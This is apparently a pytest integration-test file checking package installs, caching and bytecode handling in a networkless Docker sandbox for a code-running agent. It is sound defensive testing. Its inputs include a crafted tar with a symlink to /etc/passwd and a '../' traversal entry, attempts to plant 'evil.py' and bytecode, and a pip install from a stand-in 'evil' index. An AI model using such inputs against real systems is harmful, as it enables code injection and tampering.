"""Packages in Docker sandboxes, against the real registry (through the host's pip) and the real engine.

The sandbox never has a network: every test that installs something also
shows that the code still cannot reach anything. Small packages keep the
downloads short: ``tabulate`` (pure Python) and ``msgpack`` (a compiled
extension). The host's package cache is a fresh directory for this test
session, so "first time" means first time.
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import threading
import zipfile
from pathlib import Path
from typing import Any

import pytest

from codeact import CodeActAgent
from codeact.events import PackageInstall, RunFinished
from codeact.models import ScriptedModel
from codeact.runlog import RunLog
from sandbox import DockerSandbox
from sandbox._pkg_cache import sha256_of
from sandbox.packages import PackagePolicy

pytestmark = [pytest.mark.docker, pytest.mark.timeout(600)]

NO_NETWORK = """
import socket
try:
    socket.create_connection(("1.1.1.1", 53), timeout=3)
    print("NETWORK: reachable")
except OSError as exc:
    print("NETWORK: unreachable", type(exc).__name__)
"""


@pytest.fixture(scope="session")
def cache_dir(tmp_path_factory: pytest.TempPathFactory) -> str:
    return str(tmp_path_factory.mktemp("package-cache"))


@pytest.fixture(scope="session")
def env_volumes() -> Any:
    """Names of shared package volumes the tests made; removed at the end (when no container uses them)."""
    made: set[str] = set()
    yield made
    from sandbox.container import docker_client

    client = docker_client()
    for name in made:
        with contextlib.suppress(Exception):
            client.volumes.get(name).remove(force=True)


def policy(cache_dir: str, **options: Any) -> PackagePolicy:
    return PackagePolicy(cache_dir=cache_dir, **options)


def py(code: str) -> str:
    return f"Let me do that.\n```python\n{code.strip()}\n```"


def run_ok(sb: DockerSandbox, code: str) -> str:
    r = sb.run(code)
    assert r.error is None, f"{r.error}\n{r.stdout}\n{r.stderr}"
    return r.stdout


# --------------------------------------------------------------------------- installing at run time


def test_runtime_install_of_pure_and_compiled_packages_then_from_cache(cache_dir: str) -> None:
    with DockerSandbox(package_policy=policy(cache_dir)) as sb:
        out = run_ok(sb, "install('tabulate', 'msgpack')\n"
                         "import tabulate, msgpack\n"
                         "print(tabulate.tabulate([['a', 1]], tablefmt='plain'))\n"
                         "print(msgpack.unpackb(msgpack.packb({'k': [1, 2]})))\n"
                         "print(msgpack.__file__)")
        assert "Installed" in out and "msgpack" in out and "tabulate" in out
        assert "a  1" in out and "{'k': [1, 2]}" in out
        assert "/opt/codeact/packages/" in out and ".so" not in out.split("msgpack.__file__")[0]
        first = sb.packages.records[-1]
        assert first.ok and first.downloaded == 2 and not first.resolved_from_cache
        assert {p.name for p in first.packages} == {"tabulate", "msgpack"}
        # The code cannot change what the host installed, nor reach the network after an install.
        out = run_ok(sb, "import msgpack, os\ntry:\n    open(os.path.join(os.path.dirname(msgpack.__file__), "
                         "'evil.py'), 'w')\nexcept OSError as e: print('readonly', e.errno)\n" + NO_NETWORK)
        assert "readonly 13" in out and "NETWORK: unreachable" in out
    with DockerSandbox(package_policy=policy(cache_dir)) as sb:
        out = run_ok(sb, "install('tabulate', 'msgpack')\nimport msgpack\nprint(msgpack.version)")
        assert "from the host's cache" in out
        second = sb.packages.records[-1]
        assert second.resolved_from_cache and second.downloaded == 0
        assert run_ok(sb, NO_NETWORK).strip().startswith("NETWORK: unreachable")


BYTECODE_CHECK = """
import importlib.util, os, subprocess, sys
import tabulate, msgpack.fallback
for m in (tabulate, msgpack.fallback):
    pyc = importlib.util.cache_from_source(m.__file__)
    real = os.path.realpath(pyc)
    print('pyc', m.__name__, os.path.exists(pyc), m.__cached__ == pyc, os.stat(real).st_uid)
    for where in (os.path.dirname(m.__file__), os.path.dirname(real)):
        try:
            open(os.path.join(where, 'evil.cpython-311.pyc'), 'wb')
        except OSError as e:
            print('readonly', e.errno)
    try:
        open(real, 'r+b')
    except OSError as e:
        print('readonly', e.errno)
# A new Python process (what joblib's workers and multiprocessing start, given the kernel's path) loads the
# bytecode, not the source.
done = subprocess.run([sys.executable, '-v', '-c', 'import tabulate, msgpack.fallback'], capture_output=True,
                      text=True, env={**os.environ, 'PYTHONPATH': os.pathsep.join(p for p in sys.path if p)})
verbose = done.stderr
print('exit', done.returncode)
loaded = [line.split(' from ', 1)[1].strip("'") for line in verbose.splitlines()
          if line.startswith('# code object from') and '/opt/codeact/packages/' in line]
print('sources', sum(not p.endswith('.pyc') for p in loaded), 'bytecode',
      sorted(p.rsplit('/', 1)[-1] for p in loaded if p.endswith('.pyc')))
"""


def test_runtime_install_gets_its_bytecode_compiled_once_then_from_the_cache(tmp_path: Path, cache_dir: str) -> None:
    # The wheels fetched by the earlier tests, without the bytecode the host made of them: as a cache from
    # before bytecode existed, whose bundles have none.
    cache = tmp_path / "cache"
    shutil.copytree(cache_dir, cache, ignore=shutil.ignore_patterns("bytecode", "leases", "locks"))

    def check(out: str) -> None:
        assert out.count("pyc ") == 2 and out.count(" True True 0") == 2, out
        assert out.count("readonly 13") == 6 and "exit 0" in out and "sources 0 bytecode [" in out, out
        assert "'fallback.cpython-311.pyc'" in out and "'__init__.cpython-311.pyc'" in out, out

    with DockerSandbox(package_policy=policy(str(cache))) as sb:
        # Hostile code cannot plant bytecode: neither where the host puts it nor next to the sources.
        out = run_ok(sb, "install('tabulate', 'msgpack', quiet=True)\nimport os, tabulate\n"
                         "for d in ('/opt/codeact/packages/.bytecode',\n"
                         "          os.path.join(os.path.dirname(tabulate.__file__), '__pycache__')):\n"
                         "    try:\n        os.mkdir(d)\n    except OSError as e: print('denied', e.errno)")
        assert out.split() == ["denied", "13", "denied", "13"]
        assert sb._kernel.packages.backend.settle(300), "the bytecode was not compiled in 5 minutes"
        made = Path(cache, "bytecode", f"{sb.packages._batches[-1].name}.tar")
        assert made.is_file()
        check(run_ok(sb, BYTECODE_CHECK))  # the same kernel: the bytecode arrived after the install
        sb.restart()
        check(run_ok(sb, BYTECODE_CHECK))
    inode = made.stat().st_ino
    with DockerSandbox(package_policy=policy(str(cache))) as sb:
        # A later session gets the bytecode with the install, before its first import; nothing is compiled.
        check(run_ok(sb, "install('tabulate', 'msgpack', quiet=True)\n" + BYTECODE_CHECK))
        assert sb._kernel.packages.backend.settle(0) and made.stat().st_ino == inode


def test_bytecode_from_the_helper_is_checked_before_it_reaches_a_sandbox(tmp_path: Path) -> None:
    """Only .pyc files named for the bundle's own sources are kept, with fresh headers; the links that make a
    directory's bytecode visible come after its files and stay inside the package directory."""
    import io
    import tarfile

    from sandbox._pkg_wheel import bytecode_tar

    def add(tar: tarfile.TarFile, name: str, data: bytes = b"x", **attrs: Any) -> None:
        info = tarfile.TarInfo(name)
        info.size = len(data)
        for key, value in attrs.items():
            setattr(info, key, value)
        tar.addfile(info, io.BytesIO(data) if info.isfile() else None)

    bundle, compiled = tmp_path / "bundle.tar", tmp_path / "compiled.tar"
    with tarfile.open(bundle, "w") as tar:
        for name in ("abc/pkg/__init__.py", "abc/pkg/mod.py", "abc/top.py", "abc/own/a.py",
                     "abc/own/__pycache__/a.cpython-311.pyc"):
            add(tar, name)
    root = ".pyc/opt/codeact/packages/abc"
    with tarfile.open(compiled, "w") as tar:
        add(tar, f"{root}/pkg/__init__.cpython-311.pyc", b"init", mode=0o4777, uid=1000)
        add(tar, f"{root}/top.cpython-311.pyc", b"top")
        add(tar, f"{root}/pkg/mod.cpython-311.pyc", type=tarfile.SYMTYPE, linkname="/etc/passwd")
        add(tar, f"{root}/pkg/other.cpython-311.pyc")  # no such source
        add(tar, f"{root}/pkg/mod.py")  # not bytecode
        add(tar, f"{root}/../top.cpython-311.pyc")
        add(tar, f"{root}/own/a.cpython-311.pyc")  # the wheel ships its own: kept as it is
        add(tar, ".pyc/opt/codeact/packages/xyz/top.cpython-311.pyc")  # another bundle
    out = io.BytesIO()
    assert bytecode_tar(compiled, ".pyc/opt/codeact/packages", bundle, "abc", out) > 0
    with tarfile.open(fileobj=io.BytesIO(out.getvalue())) as tar:
        members = tar.getmembers()
        files = {m.name: (m.mode, m.uid, tar.extractfile(m).read()) for m in members if m.isfile()}  # type: ignore
        links = [(m.name, m.linkname) for m in members if m.issym()]
        assert files == {".bytecode/abc/pkg/__pycache__/__init__.cpython-311.pyc": (0o644, 0, b"init"),
                         ".bytecode/abc/__pycache__/top.cpython-311.pyc": (0o644, 0, b"top")}
        assert links == [("abc/pkg/__pycache__", "../../.bytecode/abc/pkg/__pycache__"),
                         ("abc/__pycache__", "../.bytecode/abc/__pycache__")]
        assert [m.name for m in members][-2:] == [name for name, _ in links]
        tar.extractall(tmp_path / "packages", filter="data")  # refuses links that leave the directory
    assert (tmp_path / "packages/abc/pkg/__pycache__/__init__.cpython-311.pyc").read_bytes() == b"init"


def test_bytecode_in_the_cache_is_made_once_and_evicted_like_its_bundle(tmp_path: Path) -> None:
    import time

    from sandbox.packages import PackageCache

    cache = PackageCache(tmp_path / "cache", max_bytes=None, max_age=3600)
    calls: list[str] = []

    def write(out: Any) -> None:
        calls.append("compiled")
        out.write(b"bytecode")

    def fail(out: Any) -> None:
        out.write(b"half")
        raise RuntimeError("the helper died")

    with pytest.raises(RuntimeError):
        cache.make_bytecode("bbb", fail)
    assert cache.bytecode("bbb") is None and not list((tmp_path / "cache" / "bytecode").iterdir())
    for name in ("aaa", "aaa", "bbb"):
        cache.make_bytecode(name, write)
    assert calls == ["compiled", "compiled"] and cache.bytecode("aaa") is not None
    old = time.time() - 7200
    for name in ("aaa", "bbb"):
        os.utime(tmp_path / "cache" / "bytecode" / f"{name}.tar", (old, old))
    lease = cache.lease()
    lease.add(names=["aaa"])  # a live session uses the set aaa: its bytecode stays
    assert cache.evict() == ["bytecode:bbb"] and cache.bytecode("bbb") is None
    lease.close()
    os.utime(tmp_path / "cache" / "bytecode" / "aaa.tar", (old, old))
    assert cache.evict() == ["bytecode:aaa"]


def test_pip_lines_in_model_code_are_installs_and_logged(tmp_path: Path, cache_dir: str) -> None:
    model = ScriptedModel([
        py("%pip install -q tabulate\nimport tabulate\nprint('pct', tabulate.__name__)"),
        py("!pip install msgpack\nimport msgpack\nprint('bang', msgpack.unpackb(msgpack.packb(7)))\n"
           "!echo still-a-shell\n" + NO_NETWORK),
        py("final_answer('done')"),
    ])
    agent = CodeActAgent(model, sandbox="docker", log=tmp_path / "runs.db", output_dir=tmp_path / "out",
                         package_policy=policy(cache_dir))
    events = list(agent.stream("use two packages"))
    result = events[-1].result  # type: ignore[attr-defined]
    assert isinstance(events[-1], RunFinished) and result.status == "success", result
    obs = [s.observation or "" for s in result.steps]
    assert "pct tabulate" in obs[0] and "bang 7" in obs[1] and "still-a-shell" in obs[1]
    assert "NETWORK: unreachable" in obs[1] and "Installed msgpack" in obs[1]
    installs = [e for e in events if isinstance(e, PackageInstall)]
    assert [(e.step, e.requirements, e.source) for e in installs] == [
        (1, ["tabulate"], "runtime"), (2, ["msgpack"], "runtime")]
    assert installs[1].packages[0]["name"] == "msgpack" and installs[1].packages[0]["version"]
    log = RunLog(tmp_path / "runs.db")
    try:
        stored = [e for e in log.get_events(result.run_id) if e.get("type") == "PackageInstall"]
    finally:
        log.close()
    assert len(stored) == 2, stored
    assert "msgpack" in json.dumps(stored)


def test_packages_up_front_are_materialised_once_and_shared(tmp_path: Path, cache_dir: str,
                                                            env_volumes: set[str]) -> None:
    model = ScriptedModel([py("import tabulate, msgpack\nprint(tabulate.__name__, msgpack.version >= (1,))\n"
                              "final_answer('ok')")])
    agent = CodeActAgent(model, sandbox="docker", log=tmp_path / "runs.db", output_dir=tmp_path / "out",
                         packages=["tabulate", "msgpack"], package_policy=policy(cache_dir))
    events = list(agent.stream("check"))
    result = events[-1].result  # type: ignore[attr-defined]
    assert result.status == "success", result
    assert "tabulate True" in (result.steps[0].observation or "")
    upfront = [e for e in events if isinstance(e, PackageInstall)]
    assert len(upfront) == 1 and upfront[0].source == "upfront" and upfront[0].step == 0
    with agent.session() as chat:  # the prompt names what is installed and that install() exists
        chat.send("again")
        system = chat.messages[0].content
    assert "tabulate" in system and "install(" in system and "numpy" in system
    with DockerSandbox(packages=["msgpack", "tabulate"], package_policy=policy(cache_dir)) as sb:
        record = sb.packages.records[0]
        assert record.location == "env" and record.downloaded == 0
        volume = sb._kernel.packages.backend.env_volume
        env_volumes.add(volume)
        out = run_ok(sb, "import msgpack, tabulate\nprint(msgpack.__file__)\n"
                         "try:\n    open('/opt/codeact/env/x', 'w')\nexcept OSError as e: print('ro', e.errno)\n"
                         + NO_NETWORK)
        assert out.splitlines()[0].startswith("/opt/codeact/env/") and "ro 30" in out
        assert "NETWORK: unreachable" in out
        assert sb.container.attrs["HostConfig"]["NetworkMode"] == "none"
        mounts = {m["Destination"]: m for m in sb.container.attrs["Mounts"]}
        assert mounts["/opt/codeact/env"]["Name"] == volume and mounts["/opt/codeact/env"]["RW"] is False


def test_an_up_front_set_gets_bytecode_compiled_once_whatever_the_engine(tmp_path: Path, cache_dir: str,
                                                                         env_volumes: set[str]) -> None:
    from sandbox.container import docker_client

    client = docker_client()
    cache = tmp_path / "cache"  # the wheels, without any bytecode or record of a volume
    shutil.copytree(cache_dir, cache, ignore=shutil.ignore_patterns("bytecode", "leases", "locks", "docker-envs"))
    env_check = BYTECODE_CHECK.replace("/opt/codeact/packages/", "/opt/codeact/env/") + \
        "print('linked', os.path.islink(os.path.join(os.path.dirname(msgpack.fallback.__file__), '__pycache__')))"

    def fresh_volume_and_check(linked: bool | None) -> str:
        with DockerSandbox(packages=["msgpack", "tabulate"], package_policy=policy(str(cache))) as sb:
            volume = sb._kernel.packages.backend.env_volume
            env_volumes.add(volume)
            out = run_ok(sb, env_check)
            assert sb._kernel.packages.backend.settle(300), "the bytecode was not compiled for the cache in 5 minutes"
        # Compiled in place the first time; later, the cache's bytecode behind __pycache__ links.
        assert linked is None or f"linked {linked}" in out, out
        # The set's modules and a new process's imports load bytecode the sandbox's user cannot write.
        assert out.count("pyc ") == 2 and out.count(" True True 0") == 2, out
        assert "exit 0" in out and "sources 0 bytecode [" in out and "'fallback.cpython-311.pyc'" in out, out
        assert out.count("readonly") == 6, out
        client.volumes.get(volume).remove(force=True)  # as an engine that has not seen the set yet
        for record in (cache / "docker-envs").glob("*.json"):
            record.unlink()
        return volume

    first = fresh_volume_and_check(None)  # (from a volume an earlier test made of this set, maybe: removed after)
    for made in (cache / "bytecode").glob("*.tar"):
        made.unlink()
    assert fresh_volume_and_check(False) == first
    (made,) = (cache / "bytecode").glob("*.tar")
    assert made.stem == first.removeprefix("codeact-env-")
    inode = made.stat().st_ino
    assert fresh_volume_and_check(True) == first
    assert made.stat().st_ino == inode and list((cache / "bytecode").glob("*.tar")) == [made]  # not compiled again


def test_every_refusal_arrives_as_package_install_error(cache_dir: str) -> None:
    asked: list[Any] = []

    def approve(request: Any) -> bool:
        asked.append(request)
        return "tabulate" not in request.requirements

    rules = policy(cache_dir, deny=("msgpack*",), max_total_bytes=5_000_000, approve=approve)
    cases = {
        "denied": ("install('msgpack')", "policy", "msgpack matches the deny rule 'msgpack*'"),
        "source-only": ("install('docopt')", "no_wheel", "only a source distribution"),
        "nonexistent": ("install('codeact-no-such-package-zq81x')", "not_found", "no package named"),
        "conflict": ("install('numpy<2')", "conflict", "numpy 2."),
        "too large": ("install('scipy')", "too_large", "may add 5.0 MB in all"),
        "approval": ("install('tabulate')", "denied", "did not allow"),
        "not a requirement": ("install('pkg @ https://example.com/x.whl')", "invalid", "direct URLs"),
        "index option": ("%pip install -i http://evil/simple six", "policy", "the host chooses"),
    }
    with DockerSandbox(package_policy=rules) as sb:
        for name, (code, kind, words) in cases.items():
            if code.startswith("%"):  # a magic cannot sit in a try block: the error ends the cell
                r = sb.run(code)
                assert r.error is not None and r.error.type == "PackageInstallError", (name, r.error)
                out = f"{kind} | {r.error.message}"
            else:
                out = run_ok(sb, f"try:\n    {code}\nexcept PackageInstallError as e:\n"
                                 f"    print(e.kind, '|', e, '|', e.details)")
            assert out.startswith(kind + " |") and words in out, (name, out)
        # Nothing of a refused install is importable, and the sandbox is still offline.
        out = run_ok(sb, "import importlib.util as u, sys\n"
                         "print([m for m in ('msgpack', 'docopt', 'scipy', 'tabulate') if u.find_spec(m)])\n"
                         "print([p for p in sys.path if 'codeact' in p])\n" + NO_NETWORK)
        assert out.splitlines()[:2] == ["[]", "[]"] and "NETWORK: unreachable" in out
        assert [r.error_kind for r in sb.packages.records] == [
            "policy", "no_wheel", "not_found", "conflict", "too_large", "denied", "invalid"]
    assert [a.requirements for a in asked] == [("tabulate",)]


def test_installs_survive_a_kernel_restart_but_not_the_session(cache_dir: str) -> None:
    with DockerSandbox(package_policy=policy(cache_dir)) as sb:
        run_ok(sb, "install('tabulate', quiet=True)")
        sb.restart()
        assert "tabulate" in run_ok(sb, "import tabulate; print(tabulate.__name__)")
    with DockerSandbox(package_policy=policy(cache_dir)) as sb:
        out = run_ok(sb, "import importlib.util as u; print(u.find_spec('tabulate'))")
        assert out.strip() == "None"


def test_two_sessions_installing_the_same_package_at_once(tmp_path: Path, env_volumes: set[str]) -> None:
    fresh = str(tmp_path / "fresh-cache")  # both must fetch: nothing is cached yet
    outputs: dict[str, str] = {}
    errors: list[BaseException] = []
    barrier = threading.Barrier(2)

    def session(name: str) -> None:
        try:
            with DockerSandbox(package_policy=policy(fresh)) as sb:
                sb.start()
                barrier.wait(60)
                outputs[name] = run_ok(sb, "install('msgpack')\nimport msgpack\n"
                                           "print('ok', msgpack.unpackb(msgpack.packb([1])))")
        except BaseException as exc:
            errors.append(exc)

    threads = [threading.Thread(target=session, args=(n,)) for n in ("a", "b")]
    for t in threads:
        t.start()
    for t in threads:
        t.join(300)
    assert not errors, errors
    assert all("ok [1]" in out for out in outputs.values()) and len(outputs) == 2
    wheels = list(Path(fresh, "wheels").glob("*/*.whl"))
    assert len(wheels) == 1 and wheels[0].parent.name == sha256_of(wheels[0])

    # Two sessions starting with the same set at once: one shared volume, filled once, both working.
    from sandbox._pkg_docker import DockerPackageBackend
    from sandbox.container import docker_client
    from sandbox.packages import PackageCache, PackageInstaller

    client = docker_client()
    backend = DockerPackageBackend(client, _image(), PackageCache(fresh), lambda: None)
    target, present, _ = backend.inspect()
    plan = PackageInstaller(policy(fresh), target).plan(["tabulate", "msgpack"], present, source="upfront")
    volume = f"codeact-env-{plan.content_hash(target)}"
    with contextlib.suppress(Exception):  # made by an earlier test: start from nothing
        client.volumes.get(volume).remove(force=True)
    env_volumes.add(volume)
    used: dict[str, str] = {}

    def upfront(name: str) -> None:
        try:
            barrier.wait(60)
            with DockerSandbox(packages=["tabulate", "msgpack"], package_policy=policy(fresh)) as sb:
                used[name] = sb._kernel.packages.backend.env_volume
                assert "1" in run_ok(sb, "import tabulate, msgpack; print(1)")
        except BaseException as exc:
            errors.append(exc)

    barrier.reset()
    threads = [threading.Thread(target=upfront, args=(n,)) for n in ("a", "b")]
    for t in threads:
        t.start()
    for t in threads:
        t.join(300)
    assert not errors, errors
    assert set(used.values()) == {volume}
    assert len(list(Path(fresh, "docker-envs").glob(f"*-{volume}.json"))) == 1


def _image() -> str:
    from sandbox.image import default_image_tag

    return default_image_tag()


def test_offline_wheelhouse_with_the_registry_blocked(tmp_path: Path, cache_dir: str,
                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    wheelhouse = tmp_path / "wheelhouse"
    wheelhouse.mkdir()
    for wheel in Path(cache_dir, "wheels").glob("*/msgpack-*.whl"):  # a real compiled wheel, fetched earlier
        shutil.copy(wheel, wheelhouse / wheel.name)
    if not list(wheelhouse.glob("msgpack-*.whl")):
        pytest.fail("the msgpack wheel from the earlier tests is not in the cache")
    house_pkg = wheelhouse / "house_pkg-1.0-py3-none-any.whl"
    with zipfile.ZipFile(house_pkg, "w") as z:  # a wheel that exists nowhere but here
        z.writestr("house_pkg/__init__.py", "WHERE = 'wheelhouse'\n")
        z.writestr("house_pkg-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: house_pkg\nVersion: 1.0\n")
        z.writestr("house_pkg-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        z.writestr("house_pkg-1.0.dist-info/RECORD", "")
    for var in ("HTTPS_PROXY", "HTTP_PROXY", "https_proxy", "http_proxy", "ALL_PROXY"):
        monkeypatch.setenv(var, "http://127.0.0.1:9")  # the host-side fetcher cannot reach any registry
    monkeypatch.setenv("PIP_CONFIG_FILE", os.devnull)
    monkeypatch.setenv("PIP_RETRIES", "0")
    for var in ("PIP_FIND_LINKS", "PIP_EXTRA_INDEX_URL", "PIP_INDEX_URL"):
        monkeypatch.delenv(var, raising=False)
    offline = policy(str(tmp_path / "offline-cache"), wheelhouse=str(wheelhouse), offline=True)
    with DockerSandbox(package_policy=offline) as sb:
        out = run_ok(sb, "install('house-pkg', 'msgpack')\nimport house_pkg, msgpack\n"
                         "print(house_pkg.WHERE, msgpack.unpackb(msgpack.packb(3)))\n"
                         "try:\n    install('tabulate')\nexcept PackageInstallError as e: print(e.kind)\n" + NO_NETWORK)
        assert "wheelhouse 3" in out and "not_found" in out and "NETWORK: unreachable" in out
    online = policy(str(tmp_path / "online-cache"))
    with DockerSandbox(package_policy=online) as sb:  # the same request online fails: the block is real
        out = run_ok(sb, "try:\n    install('tabulate')\nexcept PackageInstallError as e: print(e.kind)")
        assert out.strip() == "unreachable"


# --------------------------------------------------------------------------- the CLI


def test_cli_packages_option_and_install_approval(tmp_path: Path, cache_dir: str,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    from click.testing import CliRunner

    from codeact.cli import cli

    monkeypatch.setenv("CODEACT_DB", str(tmp_path / "runs.db"))
    monkeypatch.setenv("CODEACT_OUTPUT_DIR", str(tmp_path / "out"))
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))  # the CLI's default package cache
    shutil.copytree(cache_dir, tmp_path / "xdg" / "codeact" / "packages")  # wheels fetched earlier
    replies = tmp_path / "replies.json"
    replies.write_text(json.dumps([
        py("import tabulate\nprint('pre', tabulate.__name__)\n"
           "try:\n    install('msgpack')\n    print('installed')\nexcept PackageInstallError as e:\n"
           "    print('refused', e.kind)"),
        py("final_answer('done')"),
    ]))
    monkeypatch.setenv("CODEACT_SCRIPTED_REPLIES", str(replies))
    runner = CliRunner()
    asked = runner.invoke(cli, ["run", "t", "--backend", "docker", "--packages", "tabulate", "--json"])
    assert asked.exit_code == 0, asked.output
    steps = json.loads(asked.stdout)["steps"]
    assert "pre tabulate" in steps[0]["observation"] and "refused denied" in steps[0]["observation"]
    assert "pass --yes" in asked.stderr  # no terminal to ask: denied, and told how to allow
    allowed = runner.invoke(cli, ["run", "t", "--backend", "docker", "--packages", "tabulate", "--yes", "--json"])
    assert allowed.exit_code == 0, allowed.output
    assert "installed" in json.loads(allowed.stdout)["steps"][0]["observation"]
    bad = runner.invoke(cli, ["run", "t", "--backend", "docker", "--offline"])
    assert bad.exit_code != 0 and "needs wheelhouse" in bad.stderr and "Traceback" not in bad.stderr
